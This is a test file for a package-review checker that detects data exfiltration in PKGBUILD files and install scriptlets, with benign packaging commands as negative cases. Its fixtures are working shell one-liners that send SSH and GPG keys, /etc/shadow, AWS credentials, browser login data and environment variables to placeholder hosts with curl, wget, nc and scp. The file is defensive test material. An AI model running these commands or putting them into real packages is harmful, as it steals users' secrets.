import { describe, expect, it } from 'vitest';
import { checkExfiltration } from './check-exfiltration.js';
import { brief, lineOf, riskInput } from './fixtures/helpers.js';
import { PYTHON_PKG, WIDGET_GIT, fancytool, slinkyBin } from './fixtures/packages.js';

const prev = fancytool();

function inBuild(line: string) {
  const cand = fancytool({ buildExtra: [line] });
  return { flags: checkExfiltration(riskInput(cand, prev)), line: lineOf(cand.PKGBUILD, line) };
}

describe('exfiltration', () => {
  it.each([
    ['curl -s -T "$HOME/.bash_history" https://x.y/u', /uploads a file/],
    ['curl -s -F "f=@$HOME/.ssh/id_ed25519" https://x.y/u', /uploads a file in a form/],
    ['curl -s --data-binary @/etc/shadow https://x.y/u', /posts the contents of a file/],
    ['curl -s -X POST -d "$(cat ~/.aws/credentials)" https://x.y/u', /posts the output of a command/],
    ['wget -q --post-file=/tmp/.k https://x.y/u', /uploads a file/],
    ['tar czf - ~/.gnupg | nc 203.0.113.7 443', /sends the output of `tar`/],
    ['nc 203.0.113.7 443 < /tmp/.collected', /sends a file/],
    ['scp -q /tmp/.collected drop@203.0.113.7:/in/', /remote host/],
    ['cp -r ~/.mozilla/firefox /tmp/.ff', /reads credentials or private data \(~\/\.mozilla\/firefox\)/],
    ['cat "$HOME/.config/google-chrome/Default/Login Data" > /tmp/.l', /reads credentials/],
    ['tar czf /tmp/k.tgz /root/.ssh/', /reads credentials/],
    ['env | curl -s -d @- https://x.y/e', /posts the contents of a file|sends the environment/],
    ['printenv | nc 203.0.113.7 80', /sends the environment|sends the output/],
  ])('flags `%s` (high)', (cmd, reason) => {
    const { flags, line } = inBuild(cmd);
    expect(brief(flags)).toEqual([{ check: 'exfiltration', severity: 'high', file: 'PKGBUILD', line }]);
    expect(flags[0]!.reason).toMatch(reason);
  });

  it('flags an environment dump that is saved (medium), and scans scriptlets', () => {
    expect(brief(inBuild('env > "$srcdir/.env.txt"').flags).map((f) => f.severity)).toEqual(['medium']);
    const cand = {
      ...fancytool({ topExtra: ['install=x.install'] }),
      'x.install': 'post_install() {\n  cat /etc/shadow | curl -s -d @- https://x.y\n}\n',
    };
    expect(brief(checkExfiltration(riskInput(cand, prev)))).toEqual([{ check: 'exfiltration', severity: 'high', file: 'x.install', line: 2 }]);
  });

  it('accepts ordinary packaging, messages and writes of keys the package ships', () => {
    for (const cmd of [
      'install -Dm644 sshd.conf "$pkgdir/etc/ssh/sshd_config.d/50-fancy.conf"',
      'curl -fsSL -o "$srcdir/extra.tar.gz" https://github.com/fancyorg/extra/archive/v1.tar.gz',
      'echo "Copy your key to ~/.ssh/ and upload with curl -T file"',
      'env CFLAGS="$CFLAGS -fPIC" make',
      'env -u GOFLAGS go build ./...',
      'install -Dm600 /dev/null "$pkgdir/etc/fancytool/.netrc"',
      'rsync -a --exclude .git "$srcdir/fancytool/" "$pkgdir/opt/fancytool/"',
    ]) {
      expect(inBuild(cmd).flags, cmd).toEqual([]);
    }
    for (const files of [fancytool(), slinkyBin(), WIDGET_GIT, PYTHON_PKG]) expect(checkExfiltration(riskInput(files))).toEqual([]);
  });
});
